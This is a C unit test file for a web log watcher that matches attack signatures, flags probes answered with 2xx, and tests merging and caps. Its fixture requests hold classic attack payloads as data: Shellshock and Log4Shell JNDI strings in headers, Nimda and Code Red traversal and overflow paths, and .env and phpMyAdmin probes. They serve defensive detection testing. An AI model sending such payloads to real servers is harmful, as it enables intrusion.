/* web/watch.c and web/findings.c: requests built by hand go through the
 * watch; the findings must name the right signatures, raise ALERT only for
 * a probe answered 2xx, keep the earliest evidence, respect the caps and
 * not depend on how the requests were split between watches. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/hash.h"
#include "web/web.h"

static struct web_sigset *sigs;

static int setup(void **state)
{
	(void)state;
	hash_set_key(1, 2);
	sigs = web_sigset_builtin();
	web_sigset_compile(sigs);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	web_sigset_free(sigs);
	return 0;
}

static struct slice sl(const char *s)
{
	struct slice v = {s, (uint32_t)strlen(s)};
	return v;
}

/* One request from src (an address) at second t, line `line`. */
static void req(struct web_watch *w, const char *src, int64_t t, uint64_t line,
		const char *method, const char *target, unsigned status, const char *ua,
		const char *ref)
{
	struct event_http h;
	memset(&h, 0, sizeof(h));
	h.method = sl(method);
	h.target = sl(target);
	h.request = sl(target);
	h.user_agent = sl(ua);
	h.referrer = sl(ref);
	h.vhost = sl("www.example.org");
	h.status = (uint16_t)status;
	struct event ev;
	event_clear(&ev);
	assert_int_equal(addr_parse(src, strlen(src), &ev.src), 0);
	ev.flags |= EVENT_HAS_SRC | EVENT_HAS_TIME;
	ev.time_ns = t * 1000000000;
	ev.line = line;
	ev.http = &h;
	web_add(w, &ev);
}

static const struct web_hit *hit(const struct web_source *s, const char *name)
{
	for (size_t i = 0; i < s->n_hits; i++)
		if (strcmp(s->hits[i].sig->name, name) == 0)
			return &s->hits[i];
	return NULL;
}

static const struct web_source *src(const struct web_findings *f, const char *a)
{
	struct ip_addr x;
	addr_parse(a, strlen(a), &x);
	return web_findings_lookup(f, &x, NULL);
}

/* The traffic of the tests: a benign browser, a refused prober, one whose
 * .env was served, a header attacker and an old IIS worm. */
static void traffic(struct web_watch *a, struct web_watch *b)
{
	const char *moz = "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0";
	req(a, "192.0.2.1", 100, 1, "GET", "/index.html", 200, moz, "-");
	req(b, "192.0.2.1", 101, 2, "GET", "/search?q=union+station", 200, moz, "-");
	req(a, "198.51.100.7", 110, 3, "GET", "/", 200, "Mozilla/5.0 zgrab/0.x", "-");
	req(b, "198.51.100.7", 111, 4, "GET", "/.env", 404, "Mozilla/5.0 zgrab/0.x", "-");
	req(a, "198.51.100.7", 112, 5, "GET", "/phpMyAdmin/scripts/setup.php", 404,
	    "Mozilla/5.0 zgrab/0.x", "-");
	req(b, "203.0.113.9", 120, 6, "GET", "/%2E%65nv", 200, "curl/7.88", "-");
	req(a, "203.0.113.9", 119, 7, "GET", "/.env", 200, "curl/7.88", "-");
	req(b, "2001:db8::5", 130, 8, "GET", "/", 200, "() { :; }; /bin/bash -c id", "-");
	req(a, "2001:db8::5", 131, 9, "GET", "/cgi-bin/x", 404, "${jndi:ldap://x/a}",
	    "%24%7Bjndi%3Aldap%3A%2F%2Fy%7D");
	req(b, "192.0.2.99", 140, 10, "GET",
	    "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir", 200, "-", "-");
	req(a, "192.0.2.99", 141, 11, "GET", "/default.ida?NNNNNNNN%u9090%u6858", 404, "-", "-");
	req(b, "192.0.2.50", 150, 12, "CONNECT", "example.com:443", 405, "-", "-");
}

static void check(const struct web_findings *f)
{
	assert_int_equal(f->requests, 12);
	assert_int_equal(f->sources_seen, 6);
	/* the browser is not a prober: "union station" is no "union select" */
	assert_null(src(f, "192.0.2.1"));

	const struct web_source *s = src(f, "198.51.100.7");
	assert_non_null(s);
	assert_false(s->alert); /* refused probes: no alarm */
	assert_int_equal(s->requests, 3);
	assert_non_null(hit(s, "dotenv"));
	assert_non_null(hit(s, "phpmyadmin-setup"));
	assert_non_null(hit(s, "phpmyadmin"));
	assert_int_equal(hit(s, "ua-zgrab")->count, 3);
	assert_int_equal(s->max_severity, WEB_SEV_ALERT);

	s = src(f, "203.0.113.9");
	assert_non_null(s);
	assert_true(s->alert);
	assert_int_equal(s->alert_requests, 2);
	const struct web_hit *h = hit(s, "dotenv");
	assert_int_equal(h->count, 2); /* the encoded one too */
	assert_int_equal(h->answered_2xx, 2);
	/* the earliest request by time is the evidence, not the first read */
	assert_int_equal(h->first_line, 7);
	assert_int_equal(s->first_line, 7);

	s = src(f, "2001:db8::5");
	assert_non_null(s);
	/* header-borne exploits: served 200, but the status says nothing */
	assert_false(s->alert);
	assert_non_null(hit(s, "shellshock"));
	assert_non_null(hit(s, "ua-shellshock"));
	h = hit(s, "log4shell");
	assert_non_null(h);
	assert_int_equal(h->count, 1); /* UA and referrer of one request */

	s = src(f, "192.0.2.99");
	assert_non_null(s);
	assert_true(s->alert);
	assert_non_null(hit(s, "nimda-scripts"));
	assert_non_null(hit(s, "cmd-exe"));
	assert_non_null(hit(s, "winnt-system32"));
	assert_non_null(hit(s, "code-red"));
	assert_non_null(hit(s, "ida-overflow"));

	s = src(f, "192.0.2.50");
	assert_non_null(s);
	assert_non_null(hit(s, "connect-proxy"));

	/* ALERT first */
	assert_true(f->sources[0].alert);
	assert_true(f->sources[1].alert);
	assert_false(f->sources[2].alert);
	assert_int_equal(f->n_alert, 2);
	assert_int_equal(web_findings_at_least(f, 4), 2);
	/* per-signature totals */
	int seen = 0;
	for (size_t i = 0; i < f->n_sigs; i++)
		if (strcmp(f->sigs[i].sig->name, "dotenv") == 0) {
			assert_int_equal(f->sigs[i].requests, 3);
			assert_int_equal(f->sigs[i].sources, 2);
			assert_int_equal(f->sigs[i].answered_2xx, 2);
			seen = 1;
		}
	assert_true(seen);
}

static void test_one_watch(void **state)
{
	(void)state;
	struct web_config cfg;
	web_config_defaults(&cfg);
	cfg.sigs = sigs;
	struct web_watch *w = web_new(&cfg);
	traffic(w, w);
	struct web_findings *f = web_findings(w);
	check(f);
	web_findings_free(f);
	web_free(w);
}

static void test_merged(void **state)
{
	(void)state;
	struct web_config cfg;
	web_config_defaults(&cfg);
	cfg.sigs = sigs;
	struct web_watch *a = web_new(&cfg), *b = web_new(&cfg);
	traffic(a, b);
	web_merge(a, b);
	struct web_findings *f = web_findings(a);
	check(f);
	web_findings_free(f);
	/* b was left empty and usable */
	f = web_findings(b);
	assert_int_equal(f->requests, 0);
	assert_int_equal(f->n_sources, 0);
	web_findings_free(f);
	web_free(a);
	web_free(b);
}

static void test_caps(void **state)
{
	(void)state;
	struct web_config cfg;
	web_config_defaults(&cfg);
	cfg.sigs = sigs;
	cfg.max_sources = 2;
	cfg.max_hits_per_source = 2;
	struct web_watch *w = web_new(&cfg);
	req(w, "192.0.2.1", 1, 1, "GET", "/.env", 404, "-", "-");
	req(w, "192.0.2.1", 2, 2, "GET", "/.git/config", 404, "-", "-");
	req(w, "192.0.2.1", 3, 3, "GET", "/wp-login.php", 404, "-", "-");
	req(w, "192.0.2.2", 4, 4, "GET", "/", 200, "-", "-");
	req(w, "192.0.2.3", 5, 5, "GET", "/phf", 404, "-", "-");
	struct web_findings *f = web_findings(w);
	assert_int_equal(f->sources_seen, 2);
	assert_int_equal(f->requests_dropped, 1);
	assert_int_equal(f->probes_dropped, 1);
	const struct web_source *s = src(f, "192.0.2.1");
	assert_int_equal(s->n_hits, 2);
	assert_true(s->hits_dropped >= 1);
	assert_true(f->hits_dropped >= 1);
	web_findings_free(f);
	web_free(w);
	/* records over all sources are capped too (IPv6 address rotation) */
	cfg.max_sources = 100;
	cfg.max_hits_per_source = 64;
	cfg.max_hit_records = 3;
	w = web_new(&cfg);
	req(w, "2001:db8::1", 1, 1, "GET", "/.env", 404, "-", "-");
	req(w, "2001:db8::1", 2, 2, "GET", "/wp-login.php", 404, "-", "-");
	req(w, "2001:db8::2", 3, 3, "GET", "/.env", 404, "-", "-");
	req(w, "2001:db8::3", 4, 4, "GET", "/.env", 404, "-", "-");
	req(w, "2001:db8::2", 5, 5, "GET", "/.env", 404, "-", "-");
	f = web_findings(w);
	assert_int_equal(f->n_sources, 3);
	assert_int_equal(src(f, "2001:db8::1")->n_hits, 2);
	assert_int_equal(hit(src(f, "2001:db8::2"), "dotenv")->count, 2);
	assert_int_equal(src(f, "2001:db8::3")->n_hits, 0);
	assert_int_equal(src(f, "2001:db8::3")->probes, 1);
	assert_int_equal(f->hits_dropped, 1);
	web_findings_free(f);
	web_free(w);
	cfg.max_sources = 2;
	cfg.max_hits_per_source = 2;
	/* no http: ignored */
	w = web_new(&cfg);
	struct event ev;
	event_clear(&ev);
	web_add(w, &ev);
	f = web_findings(w);
	assert_int_equal(f->requests, 0);
	web_findings_free(f);
	web_free(w);
	f = web_findings(NULL);
	assert_int_equal(f->n_sources, 0);
	web_findings_free(f);
}

/* Input out of time order: each earlier request replaces a hit's example,
 * whether the new one is shorter or longer than the one it replaces, and
 * between watches. */
static void test_example_replaced(void **state)
{
	(void)state;
	struct web_config cfg;
	web_config_defaults(&cfg);
	cfg.sigs = sigs;
	struct web_watch *a = web_new(&cfg), *b = web_new(&cfg);
	req(a, "192.0.2.1", 50, 5, "GET", "/.env?a-rather-long-query-string=1", 404, "-", "-");
	req(a, "192.0.2.1", 40, 4, "GET", "/.env", 404, "-", "-");
	struct web_findings *f = web_findings(a);
	assert_string_equal(hit(src(f, "192.0.2.1"), "dotenv")->example, "/.env");
	web_findings_free(f);
	req(a, "192.0.2.1", 30, 3, "GET", "/.env?an-even-longer-query-string-than-before=1", 404,
	    "-", "-");
	req(b, "192.0.2.1", 20, 2, "GET", "/.env?b", 200, "-", "-");
	f = web_findings(a);
	assert_string_equal(hit(src(f, "192.0.2.1"), "dotenv")->example,
			    "/.env?an-even-longer-query-string-than-before=1");
	web_findings_free(f);
	web_merge(a, b);
	f = web_findings(a);
	const struct web_hit *h = hit(src(f, "192.0.2.1"), "dotenv");
	assert_string_equal(h->example, "/.env?b");
	assert_int_equal(h->example_status, 200);
	assert_int_equal(h->count, 4);
	web_findings_free(f);
	web_free(a);
	web_free(b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_one_watch),
		cmocka_unit_test(test_merged),
		cmocka_unit_test(test_caps),
		cmocka_unit_test(test_example_replaced),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
